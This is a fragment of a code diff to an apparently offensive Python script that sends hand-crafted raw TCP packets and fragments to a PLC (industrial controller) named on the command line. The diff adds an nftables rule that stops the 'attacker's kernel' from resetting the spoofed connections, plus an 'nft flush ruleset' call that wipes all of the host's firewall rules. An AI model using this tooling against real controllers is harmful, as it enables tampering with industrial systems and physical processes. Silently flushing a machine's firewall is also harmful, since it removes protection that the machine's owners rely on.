@@ -15,7 +15,14 @@ import time
 from rawlink import ACK, PSH, Talk, ipv4, link, own_mac, packed, tcp
 
 plc, what, times = sys.argv[1], sys.argv[2], int(sys.argv[3])
-RULES = "table ip own { chain output { type filter hook output priority 0; tcp flags & rst == rst drop\n } }\n"
+# The attacker's kernel knows nothing of these connections and must not reset them.
+RULES = """table ip own {
+  chain output {
+    type filter hook output priority 0; policy accept;
+    tcp flags & rst == rst drop
+  }
+}
+"""
 
 
 def mac_of(address: str) -> bytes:
@@ -58,6 +65,7 @@ def fragments(talk: Talk, number: int) -> None:
     talk.sequence += 12
 
 
+subprocess.run(["nft", "flush", "ruleset"], check=True)
 subprocess.run(["nft", "-f", "-"], input=RULES, text=True, check=True)
 macs = (own_mac(), mac_of(plc))
 for turn in range(times):
